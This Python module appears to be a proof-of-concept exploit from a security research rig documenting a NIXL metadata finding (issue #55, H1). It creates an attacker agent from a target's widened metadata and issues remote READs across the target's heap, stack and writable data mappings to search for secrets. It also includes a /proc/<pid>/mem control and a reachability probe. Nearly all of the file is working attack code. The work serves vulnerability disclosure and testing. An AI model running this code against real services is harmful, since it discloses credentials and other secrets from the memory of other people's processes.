"""What a holder of a process's NIXL metadata reaches in that process (issue #55, finding H1).

::

    attacker agent ── add_remote_agent(widened(metadata)) ──► loads: every address "registered"
                   ── READ (addr, n) for each readable mapping of the target ──► target's UCX copies
                      it from its own address space (TCP: software RMA, no key checked)
    search the bytes that came back for the secrets            ──► where each was found

Only the target's ``/proc/<pid>/maps`` is read locally, to aim the READs:
an attacker on another host would walk the address space blind, which
costs time, not success. :func:`search_process_memory` reads the same
mappings through ``/proc/<pid>/mem`` instead: the control that a secret is
in a process at all (the search can succeed), where NIXL is not involved.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

import numpy as np

from kvxferd.errors import KvxferError
from kvxferd.rig.attack.metadata import widened
from kvxferd.xfer.nixl.agent import NixlAgent, NixlError, TransferState

CHUNK_BYTES = 64 << 20  # one READ at most this long
READ_TIMEOUT_S = 30.0
_SKIPPED = ("[vvar]", "[vsyscall]", "[vdso]", "[vvar_vclock]")


@dataclass(frozen=True)
class Mapping:
    """One mapping of ``/proc/<pid>/maps``."""

    start: int
    end: int
    perms: str
    name: str

    @property
    def num_bytes(self) -> int:
        return self.end - self.start


def data_mappings(pid: int) -> list[Mapping]:
    """The target's readable, writable mappings (heap, anonymous memory, stacks, writable data of its
    libraries): where a process keeps what it read from a file or made at run time."""
    mappings = []
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            fields = line.split(maxsplit=5)
            name = fields[5].strip() if len(fields) > 5 else ""
            if fields[1][:2] != "rw" or name in _SKIPPED or name.startswith("/dev/"):
                continue  # device mappings (GPU, shm of another kind) may fault on a plain read
            start, end = (int(x, 16) for x in fields[0].split("-"))
            mappings.append(Mapping(start, end, fields[1], name))
    return mappings


def _found(needles: dict[str, bytes], data: bytes, base: int, found: dict[str, list[int]]) -> None:
    for label, needle in needles.items():
        found[label].extend(base + m.start() for m in re.finditer(re.escape(needle), data))


def _chunks(mappings: Iterable[Mapping]) -> Iterator[tuple[int, int]]:
    for mapping in mappings:
        for start in range(mapping.start, mapping.end, CHUNK_BYTES):
            yield start, min(CHUNK_BYTES, mapping.end - start)


def _row(address: int, num_bytes: int) -> np.ndarray:
    """One descriptor as the agent's strided rows: (address, length, device, stride, count)."""
    return np.array([[address, num_bytes, 0, num_bytes, 1]], dtype=np.uint64)


def search_process_memory(pid: int, needles: dict[str, bytes]) -> dict[str, list[int]]:
    """Addresses of each needle in ``pid``'s data mappings, read through ``/proc/<pid>/mem``."""
    found: dict[str, list[int]] = {label: [] for label in needles}
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for start, num_bytes in _chunks(data_mappings(pid)):
            try:
                mem.seek(start)
                data = mem.read(num_bytes)
            except OSError:  # unmapped since maps was read, or not readable after all
                continue
            _found(needles, data, start, found)
    return found


class NixlReach:
    """An agent of the attacker's that reads a target process through its widened metadata."""

    def __init__(self, target_metadata: bytes, *, name: str = "kvx-attacker") -> None:
        self.agent = NixlAgent(name)
        self.buffer = np.zeros(CHUNK_BYTES, dtype=np.uint8)
        self.agent.register_array("attacker-buffer", self.buffer)
        self.target = self.agent.add_remote(widened(target_metadata))

    def read(self, address: int, num_bytes: int, timeout_s: float = READ_TIMEOUT_S) -> tuple[TransferState, bytes]:
        """READ ``num_bytes`` at ``address`` of the target; the end state and the bytes (empty unless DONE)."""
        num_bytes = min(num_bytes, CHUNK_BYTES)
        local = self.agent.prep_local(_row(self.buffer.ctypes.data, num_bytes), "DRAM")
        remote = self.agent.prep_remote(self.target, _row(address, num_bytes), "DRAM")
        handle = self.agent.make_read(local, np.array([0], dtype=np.int32), remote, np.array([0], dtype=np.int32), b"")
        state = self.agent.post(handle)
        deadline = time.monotonic() + timeout_s
        while state is TransferState.PROC and time.monotonic() < deadline:
            state = self.agent.state(handle)
        data = self.buffer[:num_bytes].tobytes() if state is TransferState.DONE else b""
        if state is not TransferState.PROC:
            self.agent.release(handle)
        return state, data

    def search(self, pid: int, needles: dict[str, bytes]) -> tuple[dict[str, list[int]], int]:
        """Addresses of each needle in what READs of ``pid``'s data mappings returned, and the bytes read."""
        found: dict[str, list[int]] = {label: [] for label in needles}
        num_read = 0
        for start, num_bytes in _chunks(data_mappings(pid)):
            state, data = self.read(start, num_bytes)
            if state is TransferState.DONE:
                num_read += len(data)
                _found(needles, data, start, found)
        return found, num_read

    def close(self) -> None:
        self.agent.close()


def read_state(metadata: bytes, address: int, num_bytes: int, timeout_s: float = 10.0) -> TransferState:
    """One READ of ``num_bytes`` at ``address`` through ``metadata`` (widened) by an agent of its own: its
    end state, ERR when the target died under it (NIXL says the remote disconnected)."""
    reach = NixlReach(metadata)
    try:
        return reach.read(address, num_bytes, timeout_s)[0]
    except NixlError:
        return TransferState.ERR
    finally:
        reach.close()


def reaches(metadata: bytes, address: int, num_bytes: int = 64) -> bool:
    """Whether the agent ``metadata`` names still answers a READ; loading it fails once that agent is gone
    (UCX cannot connect)."""
    try:
        return read_state(metadata, address, num_bytes) is TransferState.DONE
    except KvxferError:
        return False
